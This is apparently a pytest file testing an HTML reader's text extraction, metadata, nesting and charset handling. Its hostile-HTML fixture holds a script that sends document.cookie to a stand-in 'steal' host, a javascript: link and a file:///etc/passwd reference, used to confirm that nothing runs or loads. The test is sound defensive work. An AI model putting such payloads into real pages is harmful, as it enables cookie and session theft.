"""HTML pages: the main text without navigation or scripts, page metadata,
hostile markup that runs and loads nothing, and misdeclared charsets."""

from __future__ import annotations

import socket

from timeline_app.core.readers import read_file

from reader_files import CURLY, read_error, write


ARTICLE_HTML = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<title>Students walk out over fees | Campus News</title>
<meta property="og:site_name" content="Campus News">
<meta property="article:published_time" content="2017-02-07T16:47:00+00:00">
<style>body { color: red; } .hidden-style-marker {}</style>
<script>var trackingMarker = "do-not-import";</script>
</head><body>
<nav><a href="/">Home</a> <a href="/news">News menu link</a></nav>
<article>
<h1>Students walk out over fees</h1>
<p>Thousands of students walked out of lectures on Tuesday in protest at the
government’s “complicity” with the fee rise, the National Union of Students said.</p>
<p>The walkout began at 10.30am and was organised by the NUS International
Students’ Campaign together with campus unions across the country.</p>
<p>Organisers said further action would follow in March if ministers refused to meet them.</p>
</article>
<footer>Copyright footer text</footer>
</body></html>"""


def test_html_main_text_comes_without_navigation_scripts_or_styles(tmp_path):
    path = write(tmp_path, "article.html", ARTICLE_HTML.encode("utf-8"))

    document = read_file(path)

    assert document.format == "html"
    assert "government’s “complicity” with the fee rise" in document.text
    assert "further action would follow in March" in document.text
    for unwanted in ("trackingMarker", "do-not-import", "color: red", "News menu link"):
        assert unwanted not in document.text


def test_html_metadata_gives_title_publisher_and_published_day(tmp_path):
    path = write(tmp_path, "article.htm", ARTICLE_HTML.encode("utf-8"))

    document = read_file(path)

    assert document.title == "Students walk out over fees"
    assert document.source == "Campus News"
    assert document.published == "2017-02-07"


def test_html_time_element_gives_the_published_day(tmp_path):
    page = (
        "<html><head><title>Letter</title></head><body><article>"
        '<p>Published <time datetime="2016-09-22">22 September 2016</time></p>'
        "<p>UK universities launched the We Are International campaign to welcome "
        "students and scholars from around the world after the referendum.</p>"
        "</article></body></html>"
    )
    path = write(tmp_path, "letter.html", page.encode("utf-8"))

    assert read_file(path).published == "2016-09-22"


def test_very_short_html_page_still_yields_its_text(tmp_path):
    path = write(tmp_path, "short.html", b"<html><body><p>Walkout at noon.</p></body></html>")

    assert read_file(path).text == "Walkout at noon."


def test_html_without_visible_text_has_no_text(tmp_path):
    page = b"<html><head><script>alert(1)</script></head><body><img src='a.png'></body></html>"
    path = write(tmp_path, "empty.html", page)

    assert read_error(path) == "no text found"


HOSTILE_HTML = """<html><head><title>Hostile</title>
<script>document.write("script-payload-marker")</script></head><body>
<iframe src="http://example.invalid/frame">iframe-payload-marker</iframe>
<img src="file:///etc/passwd">
<a href="javascript:alert('js-link-marker')">Click here for the letter</a>
<p>More than 180 elected officers signed an open letter to the union board demanding
meaningful action, and said they would otherwise disaffiliate from the national body.</p>
<script>fetch("http://example.invalid/steal?x=" + document.cookie)</script>
</body></html>"""


def test_hostile_html_imports_its_text_without_running_or_loading_anything(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("reader tried to open a network connection")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    path = write(tmp_path, "hostile.html", HOSTILE_HTML.encode("utf-8"))

    text = read_file(path).text

    assert "180 elected officers signed an open letter" in text
    for marker in ("script-payload-marker", "iframe-payload-marker", "document.cookie",
                   "alert(", "root:"):
        assert marker not in text


def test_ten_thousand_nested_tags_keep_the_text_around_them(tmp_path):
    page = (
        "<html><body><p>Before the nesting.</p>"
        + "<div>" * 10_000 + "<p>Deep inside.</p>" + "</div>" * 10_000
        + "<p>After the nesting.</p><script>nested-script-marker</script></body></html>"
    )
    path = write(tmp_path, "deep.html", page.encode("ascii"))

    text = read_file(path).text

    assert "Before the nesting." in text
    assert "Deep inside." in text
    assert "After the nesting." in text
    assert "nested-script-marker" not in text


def test_html_declaring_latin1_but_written_in_utf8_reads_as_utf8(tmp_path):
    page = (
        '<html><head><meta content="text/html; charset=iso-8859-1" http-equiv="Content-Type">'
        f"</head><body><p>{CURLY}</p></body></html>"
    )
    path = write(tmp_path, "wrong.html", page.encode("utf-8"))

    assert read_file(path).text == CURLY


def test_html_declaring_utf8_but_written_in_windows_1252_reads_its_quotes(tmp_path):
    page = f'<html><head><meta charset="utf-8"></head><body><p>{CURLY}</p></body></html>'
    path = write(tmp_path, "wrong.html", page.encode("cp1252"))

    assert read_file(path).text == CURLY


def test_html_correctly_declaring_a_single_byte_charset_is_respected(tmp_path):
    page = (
        '<html><head><meta charset="iso-8859-7"></head>'
        "<body><p>Η ένωση φοιτητών.</p></body></html>"
    )
    path = write(tmp_path, "greek.html", page.encode("iso-8859-7"))

    assert read_file(path).text == "Η ένωση φοιτητών."
